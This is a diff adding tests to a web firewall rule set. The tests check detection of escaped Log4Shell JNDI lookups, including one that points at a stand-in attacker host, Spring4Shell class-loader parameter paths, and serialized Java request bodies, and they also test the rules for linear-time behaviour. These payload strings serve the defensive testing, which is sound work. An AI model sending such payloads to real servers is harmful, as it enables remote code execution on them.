@@ -73,3 +73,45 @@ test('does not flag Java prose or ordinary base64', () => {
   const benign = ['Uses the java.lang package', 'The OGNL expression language', 'a priority queue', 'SGVsbG8gd29ybGQ=', 'brO0ABC is not at a boundary', 'Runtime errors'];
   for (const b of benign) assert.deepEqual(matchAll(rules, b), [], `false positive on ${b}`);
 });
+
+test('resolves JS/HTML-escaped lookups in values and headers, and Basic credentials', () => {
+  for (const a of ['\\u0024{jndi:dns://x}', '\\u0024\\u007bjndi:rmi://x/a}', '&#36;{jndi:iiop://x/a}', '&#x24;&#x7b;jndi:rmi://x/a}', '$\\{jndi:ldap://x/a}']) {
+    assert.ok(matchAll(rules, a, 'json').includes('944150'), `missed ${a}`);
+  }
+  const basic = 'Basic ' + Buffer.from('${jndi:ldap://evil.example/a}:pw').toString('base64');
+  for (const [h, v] of [['Authorization', basic], ['X-Custom', '\\u0024{jndi:ldap://x/a}'], ['Referer', '&#36;{jndi:ldap://x/a}']]) {
+    const hits = checkAll(rules, testScope([], testContext('GET', '/', [['Host', 'a'], [h!, v!]])));
+    assert.ok(hits.some((x) => x.startsWith('944151')), `missed header ${h}: ${v}`);
+  }
+  const clean = testContext('GET', '/', [['Authorization', 'Basic ' + Buffer.from('alice:pa$$w0rd%').toString('base64')], ['X-Note', 'R&D \\n ${name}']]);
+  assert.deepEqual(checkAll(rules, testScope([], clean)), []);
+});
+
+test('detects Spring4Shell in bracket notation and serialized Java request bodies', () => {
+  assert.ok(matchAll(rules, "class[module][classLoader][resources][context][parent][pipeline][first][pattern]", 'form_name').includes('944100'));
+  assert.ok(matchAll(rules, "class['module']['classLoader'].URLs[0]", 'query_name').includes('944100'));
+  assert.deepEqual(matchAll(rules, 'class[name]', 'query_name'), []);
+  const body = (text: string, kind: 'binary' | 'text' | 'json'): string[] => {
+    const ctx = testContext('POST', '/obj', [['Content-Type', 'application/octet-stream']], text);
+    return checkAll(rules, { ...testScope([], ctx), phase: 'body', body: { kind, contentType: 'application/octet-stream', truncated: false, limited: false, text } });
+  };
+  assert.equal(body('rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==', 'binary').length, 1);
+  assert.equal(body('ACED00057372', 'text').length, 1);
+  const raw = testContext('POST', '/obj', [['Content-Type', 'application/x-java-serialized-object']]);
+  raw.body = { bytes: Buffer.from([0xac, 0xed, 0x00, 0x05, 0x73, 0x72]), truncated: false, declaredLength: 6 };
+  assert.equal(checkAll(rules, { ...testScope([], raw), phase: 'body', body: { kind: 'binary', contentType: 'application/x-java-serialized-object', truncated: false, limited: false, text: '' } }).length, 1);
+  assert.deepEqual(body('PK\u0003\u0004 archive rO0AB', 'binary'), []);
+  assert.deepEqual(body('{"a":"rO0AB"}', 'json'), []);
+});
+
+test('linear time on 64 KiB pathological input (escaped forms, brackets)', () => {
+  const inputs = ['\\u0024{'.repeat(9362), '&#36;{'.repeat(10922), 'class['.repeat(10922), 'class[module]['.repeat(4681)];
+  for (const s of inputs) {
+    const ms = timeAll(rules, s);
+    assert.ok(ms < 2000, `took ${ms} ms`);
+  }
+  const ctx = testContext('GET', '/', [['Authorization', 'Basic ' + Buffer.from('${'.repeat(3000)).toString('base64')], ['X-A', '\\u0024{'.repeat(5000)]]);
+  const t0 = performance.now();
+  checkAll(rules, testScope([], ctx));
+  assert.ok(performance.now() - t0 < 2000);
+});
